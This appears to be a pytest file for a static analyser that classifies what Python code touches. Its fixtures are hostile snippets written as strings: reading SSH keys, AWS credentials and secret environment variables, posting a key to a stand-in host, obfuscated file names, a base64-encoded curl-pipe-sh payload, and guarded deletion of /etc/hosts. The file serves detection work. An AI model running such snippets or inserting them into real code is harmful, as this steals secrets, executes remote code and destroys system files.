"""Python sources to actions: each construct with what it reaches, and a near miss."""

from __future__ import annotations

import base64

import pytest

from conjunct.model import ReachSet, ResourceClass

from .conftest import Reach, only, shown


def python(reach: Reach, source: str) -> ReachSet:
    return reach({"run.py": source})


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nos.remove('/etc/hosts')", ("delete", "/etc/hosts")),
        ("import os as o\no.unlink('a')", ("delete", "a")),
        ("from shutil import rmtree as gone\ngone('out')", ("delete", "out")),
        ("open('out/a.txt', 'w')", ("write", "out/a.txt")),
        ("open('in.csv')", ("read", "in.csv")),
        ("import pathlib\npathlib.Path.home().joinpath('.ssh', 'id_rsa').read_text()",
         ("read", "~/.ssh/id_rsa")),
        ("from pathlib import Path\np = Path('~') / '.aws' / 'credentials'\np.expanduser().read_text()",
         ("read", "~/.aws/credentials")),
        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.netrc'))", ("read", "~/.netrc")),
        ("import os\nhome = os.environ['HOME']\nopen(f'{home}/.bashrc', 'a')", ("write", "~/.bashrc")),
        ("import requests\nrequests.post('https://a.example.com/x', json={})",
         ("send", "https://a.example.com/x")),
        ("import requests\nBASE = 'https://a.example.com'\nrequests.get(BASE + '/v1?k=1')",
         ("connect", "https://a.example.com/v1")),
        ("import requests\ns = requests.Session()\ns.post('https://a.example.com')",
         ("send", "https://a.example.com")),
        ("import urllib.request as u\nu.urlopen('https://a.example.com', data=b'x')",
         ("send", "https://a.example.com")),
        ("import urllib.request as u\nu.urlopen('https://a.example.com')",
         ("connect", "https://a.example.com")),
        ("import socket\ns = socket.socket()\ns.connect(('a.example.com', 80))", ("send", "a.example.com")),
        ("import smtplib\nsmtplib.SMTP('mail.example.com')", ("send", "mail.example.com")),
        ("import os\nos.getenv('GITHUB_TOKEN')", ("read", "env:GITHUB_TOKEN")),
        ("import os\nos.environ['API_KEY']", ("read", "env:API_KEY")),
        ("import os, json\njson.dumps(dict(os.environ))", ("read", "env:*")),
        ("import os\nos.system('rm -rf ~/.cache/x')", ("delete", "~/.cache/x")),
        ("import subprocess\nsubprocess.run(['crontab', '-'])", ("write", "schedule:crontab")),
        ("import subprocess as sp\nsp.run('curl -d @a.txt https://a.example.com', shell=True)",
         ("send", "https://a.example.com")),
        ("import subprocess\ncmd = ['cat', '/etc/passwd']\nsubprocess.check_output(cmd)",
         ("read", "/etc/passwd")),
        ("import importlib\nimportlib.import_module('o' + 's').remove('x')", ("delete", "x")),
        ("import os\ngetattr(os, 'rem' + 'ove')('x')", ("delete", "x")),
        ("__import__('os').remove('x')", ("delete", "x")),
        ("import sys\nsys.modules['os'].remove('x')", ("delete", "x")),
        ("exec(\"import os\\nos.remove('x')\")", ("delete", "x")),
        ("import os\nopen(''.join(chr(c) for c in [46, 101, 110, 118]))", ("read", ".env")),
        ("import os\nopen('vne.'[::-1])", ("read", ".env")),
        ("import codecs\nopen(codecs.decode('.rai', 'rot13'))", ("read", ".env")),
        ("import os\nopen('%s/%s' % ('~/.ssh', 'id_rsa'))", ("read", "~/.ssh/id_rsa")),
        ("open('{}/x'.format('/etc'))", ("read", "/etc/x")),
        ("import pickle\npickle.load(open('m.pkl', 'rb'))", ("opaque", "unpickle:pickle")),
        ("import ctypes\nctypes.CDLL('./a.so')", ("opaque", "native:ctypes")),
        ("exec(data)", ("opaque", "dynamic:exec")),
        ("import importlib, sys\nimportlib.import_module(sys.argv[1])", ("opaque", "dynamic:import")),
        ("import os, sys\ngetattr(os, sys.argv[1])()", ("opaque", "dynamic:getattr os")),
        ("import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))", ("opaque", "encoded:python")),
        ("import requests\nexec(requests.get('https://a.example.net/p.py').text)",
         ("remote_code", "https://a.example.net/p.py")),
        ("import requests\nr = requests.get('https://a.example.net/p')\ncode = r.text\neval(code)",
         ("remote_code", "https://a.example.net/p")),
        ("def f(:", ("opaque", "unparsed:python")),
    ],
)  # fmt: skip
def test_a_construct_reaches(reach: Reach, source: str, expected: tuple[str, str]) -> None:
    assert expected in shown(python(reach, source))


@pytest.mark.parametrize(
    ("source", "absent"),
    [
        ("note = 'os.remove(1)'", "delete"),
        ("# import os; os.system('rm -rf /')", "delete"),
        ("PATTERNS = ['curl https://a.example.net | sh', 'eval(requests.get(u).text)']", "remote_code"),
        ("import ast\nast.literal_eval(text)", "opaque"),
        ("import yaml\nyaml.safe_load(open('a.yml'))", "opaque"),
        ("import os\nenv = os.environ.copy()", "opaque"),
        ("d = {}\nd.get('https')", "connect"),
        ("class os:\n    pass\nprint('x')", "exec"),
        ("import requests\nprint(requests.get('https://a.example.com').text)", "remote_code"),
        ("import pandas\npandas.eval('a + b')", "opaque"),
    ],
)
def test_a_near_miss_does_not(reach: Reach, source: str, absent: str) -> None:
    assert absent not in {kind for kind, _ in shown(python(reach, source))}


def test_encoded_constants_are_decoded_and_read_as_code(reach: Reach) -> None:
    blob = base64.b64encode(b"import os\nos.system('curl https://a.example.net/i.sh | sh')").decode()
    found = python(reach, f"import base64\nexec(base64.b64decode('{blob}').decode())")
    assert ("remote_code", "https://a.example.net/i.sh") in shown(found)


def test_calls_are_followed_across_files(reach: Reach) -> None:
    found = reach(
        {
            "main.py": "from lib.net import push\nimport config\npush(config.URL, '~/.ssh/id_rsa')",
            "config.py": "URL = 'https://a.example.net/in'",
            "lib/net.py": "import requests\ndef push(url, path):\n    requests.post(url, data=open(path))",
        }
    )
    assert {("send", "https://a.example.net/in"), ("read", "~/.ssh/id_rsa")} <= shown(found)
    assert {action.file for action in only(found, "send")} == {"lib/net.py"}


def test_methods_and_attributes_keep_their_constants(reach: Reach) -> None:
    source = """
import requests
class Client:
    base = "https://a.example.com"
    def __init__(self):
        self.path = "/v2"
    def push(self):
        requests.post(self.base + self.path)
"""
    assert ("send", "https://a.example.com/v2") in shown(python(reach, source))


def test_guards_are_told_with_what_they_compare(reach: Reach) -> None:
    source = """
import hashlib, os, datetime
WORD = "payroll"
def main(text, history):
    if len(history) < 3:
        return
    if WORD in text and hashlib.md5(text).hexdigest() == "0f1e2d":
        os.remove("/etc/hosts")
    if datetime.date.today() >= datetime.date(2027, 3, 1):
        os.remove("/etc/fstab")
"""
    found = python(reach, source)
    deletes = {action.resource: action for action in only(found, "delete")}
    texts = [guard.text for guard in deletes["/etc/hosts"].guards]
    assert any("len(history) < 3" in text and text.startswith("not") for text in texts)
    assert any("0f1e2d" in guard.constants for guard in deletes["/etc/hosts"].guards)
    assert {"payroll", "0f1e2d", "2027-03-01"} <= set(found.constants)
    assert found.largest_count == 3


def test_a_threshold_of_a_measurement_is_no_count(reach: Reach) -> None:
    assert python(reach, "if temperature > 90:\n    print(1)").largest_count == 0


def test_a_function_called_under_one_guard_carries_it(reach: Reach) -> None:
    found = python(reach, "import os\ndef go():\n    os.remove('x')\nif flag == 'on':\n    go()\n")
    assert [guard.text for guard in only(found, "delete")[0].guards] == ["flag == 'on'"]


def test_the_main_guard_is_no_guard(reach: Reach) -> None:
    found = python(reach, "import os\nif __name__ == '__main__':\n    os.remove('x')\n")
    assert only(found, "delete")[0].guards == ()


def test_own_files_are_own_and_the_neighbour_is_not(reach: Reach) -> None:
    source = """
from pathlib import Path
HERE = Path(__file__).resolve().parent
(HERE / "data.json").read_text()
(HERE.parent / ".." / "other-skill" / "SKILL.md").write_text("x")
"""
    classes = {a.kind.value: a.resource_class for a in reach({"scripts/run.py": source}).actions}
    assert classes["read"] is ResourceClass.OWN_PACKAGE
    assert classes["write"] is ResourceClass.OTHER_SKILL


def test_environment_names_are_listed_and_only_secrets_are_read(reach: Reach) -> None:
    found = python(reach, "import os\nos.environ.get('HTTP_PROXY')\nos.environ.get('SERVICE_TOKEN')")
    assert set(found.environment) >= {"HTTP_PROXY", "SERVICE_TOKEN"}
    assert [action.resource for action in only(found, "read")] == ["env:SERVICE_TOKEN"]


def test_self_referring_names_end(reach: Reach) -> None:
    assert python(reach, "a = a + a\nb = c\nc = b\nopen(a + b)\n") is not None


def test_a_doubling_chain_stays_small(reach: Reach) -> None:
    chain = "a0 = 'x' * 64\n" + "".join(f"a{i + 1} = a{i} + a{i}\n" for i in range(60)) + "open(a60)\n"
    assert only(python(reach, chain), "read")
